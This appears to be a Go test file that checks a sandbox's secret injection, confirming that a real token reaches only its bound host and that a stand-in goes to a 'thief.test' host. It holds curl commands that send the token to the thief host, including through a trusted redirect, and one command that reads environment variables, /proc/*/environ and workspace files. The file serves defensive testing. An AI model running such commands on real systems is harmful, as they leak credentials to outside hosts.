//go:build linux

package manager_test

import (
	"io"
	"net/http"
	"strconv"
	"strings"
	"sync"
	"testing"

	"github.com/bulkhead-dev/sandbox"
	"github.com/bulkhead-dev/sandbox/config"
	"github.com/bulkhead-dev/sandbox/manager"
)

const secretValue = "s3cr3t-0f-the-host-9f8e7d6c5b"

// heard keeps the credentials that a host has seen.
type heard struct {
	mu  sync.Mutex
	all []string
}

func (h *heard) serve(w http.ResponseWriter, r *http.Request) {
	h.mu.Lock()
	h.all = append(h.all, r.Header.Get("Authorization"))
	h.mu.Unlock()
	if to := r.FormValue("to"); to != "" {
		http.Redirect(w, r, to, http.StatusTemporaryRedirect)
		return
	}
	io.WriteString(w, "you sent "+r.Header.Get("Authorization")+"\n") // as careless hosts do
}

func (h *heard) last() string {
	h.mu.Lock()
	defer h.mu.Unlock()
	if len(h.all) == 0 {
		return ""
	}
	return h.all[len(h.all)-1]
}

// TestSecrets checks that a host gets the secret that is bound to it, that no
// other host does, and that the secret is nowhere else.
func TestSecrets(t *testing.T) {
	t.Parallel()
	onProviders(t, putsSecretsIn)
}

// putsSecretsIn is the test of what [TestSecrets] holds.
func putsSecretsIn(o *outward) {
	bound, other := &heard{}, &heard{}
	o.net.Handle("api.test", http.HandlerFunc(bound.serve))
	o.net.Handle("thief.test", http.HandlerFunc(other.serve))
	flags := o.allowing("api.test", "thief.test")
	flags.Network.Secrets = map[string]config.SecretSettings{
		"TOKEN": {Hosts: []string{"api.test:" + strconv.Itoa(o.net.Port("https"))}, From: config.SecretSource{Env: "OUTER_TOKEN"}},
	}
	api, thief := o.net.URL("https", "api.test", "/"), o.net.URL("https", "thief.test", "/")
	ca := func(r *manager.Request) { r.Command.Stdin = strings.NewReader(string(o.net.Authority.PEM)) }
	run := func(line string, change ...func(*manager.Request)) sandbox.Result {
		o.t.Helper()
		r, err := o.try(flags, line, change...)
		must(o.t, err)
		return r
	}
	// The certificate is our authority's, which curl finds by its variable.
	r := run(`curl -sS -i -H "Authorization: Bearer $TOKEN" '` + api + `'`)
	if r.ExitCode != 0 || bound.last() != "Bearer "+secretValue || !strings.Contains(string(r.Stdout), "you sent Bearer sandbox_secret_") {
		o.t.Fatalf("status %d, the host has heard %q: %s %s", r.ExitCode, bound.last(), r.Stdout, r.Stderr)
	}
	absent(o.t, "the answer", string(r.Stdout)+string(r.Stderr))
	if run(`curl -sS -u "user:$TOKEN" '` + api + `'`); bound.last() != "Basic dXNlcjpzM2NyM3QtMGYtdGhlLWhvc3QtOWY4ZTdkNmM1Yg==" {
		o.t.Errorf("in a login the host has heard %q", bound.last())
	}
	run("cat > test-ca.pem", ca)
	// Another host gets the stand-in, also when the first one sends there.
	with := `curl -sS --cacert test-ca.pem -L --location-trusted -H "Authorization: Bearer $TOKEN" `
	run(with + "'" + thief + "'")
	if got := other.last(); !strings.HasPrefix(got, "Bearer sandbox_secret_") {
		o.t.Errorf("another host has heard %q", got)
	}
	run(`cat test-ca.pem "$CURL_CA_BUNDLE" > both.pem; ` + strings.Replace(with, "test-ca", "both", 1) + "'" + api + "?to=" + thief + "'")
	if got := other.last(); len(other.all) != 2 || !strings.HasPrefix(got, "Bearer sandbox_secret_") {
		o.t.Errorf("a redirect carried %q", got)
	}
	// Nor does the same host at its plain port.
	run(`curl -sS -H "Authorization: Bearer $TOKEN" '` + o.net.URL("http", "api.test", "/") + `'`)
	if got := bound.last(); !strings.HasPrefix(got, "Bearer sandbox_secret_") {
		o.t.Errorf("without TLS the host has heard %q", got)
	}
	everything := run("env; set; cat /proc/*/environ /proc/*/cmdline; cat -- /workspace/* /tmp/* /.sandbox/*/* 2>/dev/null; true")
	absent(o.t, "the inside", string(everything.Stdout)+string(everything.Stderr))
	o.decisions()
	if found := o.grep(secretValue); len(found) > 0 {
		o.t.Errorf("the state folder holds it: %q", found)
	}
	if !strings.Contains(strings.Join(o.secretsPutIn(), " "), "TOKEN") {
		o.t.Error("the record does not name the secret that was put in")
	}
}

// TestSecretsThatCannotBeHad holds that nothing runs without a secret that the
// settings bind.
func TestSecretsThatCannotBeHad(t *testing.T) {
	t.Parallel()
	onProviders(t, func(o *outward) {
		flags := o.allowing("api.test")
		flags.Network.Secrets = map[string]config.SecretSettings{"TOKEN": {Hosts: []string{"api.test:1234"}, From: config.SecretSource{Env: "NO_SUCH_VARIABLE_HERE"}}}
		r, err := o.try(flags, "echo ran")
		if err == nil || !strings.Contains(err.Error(), "TOKEN") {
			o.t.Errorf("%+v, %v", r, err)
		}
	})
}

// TestCallCannotReplaceASecret holds that a call which sets the variable of a
// secret does not run.
func TestCallCannotReplaceASecret(t *testing.T) {
	t.Parallel()
	onProviders(t, func(o *outward) {
		flags := o.allowing("api.test")
		flags.Network.Secrets = map[string]config.SecretSettings{"TOKEN": {Hosts: []string{"api.test:1234"}, From: config.SecretSource{Env: "OUTER_TOKEN"}}}
		r, err := o.try(flags, "echo ran", func(r *manager.Request) { r.Command.Env = map[string]string{"TOKEN": "x"} })
		if sandbox.CodeOf(err) != sandbox.CodeValidation || strings.Contains(string(r.Stdout), "ran") {
			o.t.Errorf("%+v, %v", r, err)
		}
	})
}

// absent fails when the text holds the secret in any usual form.
func absent(t *testing.T, where, text string) {
	t.Helper()
	for _, form := range []string{secretValue, "czNjcjN0LTBmLXRoZS1ob3N0", "MzY3IzdC0wZi10aGUtaG9z", "zM2NyM3QtMGYtdGhlLWhvc3"} {
		if strings.Contains(text, form) {
			t.Errorf("%s holds the secret as %s", where, form)
		}
	}
}
